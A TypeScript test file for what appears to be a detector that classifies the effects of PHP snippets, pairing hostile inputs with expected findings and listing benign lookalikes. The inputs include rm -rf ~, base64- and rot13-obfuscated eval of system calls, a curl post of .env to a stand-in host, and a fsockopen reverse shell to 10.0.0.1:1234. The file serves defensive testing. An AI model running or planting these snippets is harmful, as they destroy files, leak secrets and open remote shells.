import { describe } from "vitest";
import { effectsOfCode, harmless } from "./table.ts";

describe("what is caught", () => {
  effectsOfCode("php", {
    'system("rm -rf ~");': ["runs shell: rm -rf ~"],
    'unlink("a"); rmdir("b");': ["delete a", "delete b"],
    'array_map("unlink", glob("x/*.txt"));': ["delete x/*.txt"],
    'foreach (glob("*.log") as $f) { unlink($f); }': ["delete *.log"],
    'foreach (["a", "b"] as $i => $f) unlink($f);': ["delete $f"],
    'function f($p) { unlink($p); } f("/etc/x");': ["delete /etc/x"],
    'unlink(getenv("HOME") . "/x");': ["delete $HOME/x"],
    'unlink("$dir/x");': ["delete <$dir>/x"],
    "echo `id`;": ["runs shell: id"],
    'shell_exec("id"); passthru("ls"); popen("w", "r"); exec("ps");': [
      "runs shell: id",
      "runs shell: ls",
      "runs shell: w",
      "runs shell: ps",
    ],
    '$f = "sys" . "tem"; $f("id");': ["runs shell: id"],
    'call_user_func("system", "id");': ["runs shell: id"],
    'eval(base64_decode("c3lzdGVtKCdpZCcpOw=="));': ["runs shell: id"],
    "eval(str_rot13(\"flfgrz('vq');\"));": ["runs shell: id"],
    "eval($x);": ["opaque foreign-code php"],
    'eval(gzinflate(base64_decode("eJw=")));': ["run $(gzinflate) decoded from[decoded gzinflate]"],
    '<?php echo file_get_contents(".env"); ?> unlink("x")': ["read .env shows"],
    'file_put_contents("a", file_get_contents("http://h/x"));': [
      "connect http://h/x fetch checked",
      "write a replace from[fetched http://h/x]",
    ],
    'file_put_contents("a", "b", FILE_APPEND); rename("c", "d"); copy("e", "f");': [
      "write a append",
      "move c d",
      "read e",
      "write f replace from[file e]",
    ],
    '$h = fopen("a", "w"); fwrite($h, "x");': ["write a replace"],
    '$c=curl_init("http://h");curl_setopt($c,CURLOPT_POSTFIELDS,file_get_contents(".env"));curl_exec($c);': [
      "read .env shows",
      "connect http://h change sends[.env body] checked",
    ],
    'array_map(function($f) { unlink($f); }, glob("*.tmp"));': ["delete *.tmp"],
    '@unlink("a"); \\unlink("b");': ["delete a", "delete b"],
    'file_put_contents("x", "<?php system(1); ?>");': ["write x replace"],
    "print_r($_ENV);": ["reveal what(* environment body)"],
    '$s=fsockopen("10.0.0.1",1234);exec("/bin/sh -i <&3 >&3 2>&3");': [
      "connect tcp://10.0.0.1:1234 tunnel checked",
      "runs shell: /bin/sh -i <&3 >&3 2>&3",
      "run /bin/sh fetched from[fetched tcp://10.0.0.1:1234]",
      "runs shell from stdin",
    ],
  });
});

describe("left alone", () => {
  harmless("php", [
    'echo "rm -rf /"; // system("x")',
    '# unlink("a")',
    '/* system("x"); */ echo 1;',
    "echo 'system(\"x\")';",
    'echo $x > 3 ? "a" : "b"; $o->unlink("x");',
    "echo <<<EOT\nsystem('x')\nEOT;\necho 1;",
    "echo json_encode(['cmd' => 'rm -rf /']);",
    "$a = ['unlink', 'system']; print_r($a);",
    'echo preg_match("/exec\\(/", $s);',
    "function unlinkAll() { return 1; } echo unlinkAll();",
    "echo PHP_VERSION; phpversion();",
    "$user->delete(); $list->remove(3);",
    'echo "{$x}" . PHP_EOL;',
    "<html>system('x')</html><?= 1 ?>",
    "echo file_exists('a') && is_dir('b');",
    "mkdir('a'); echo getcwd();",
  ]);
});
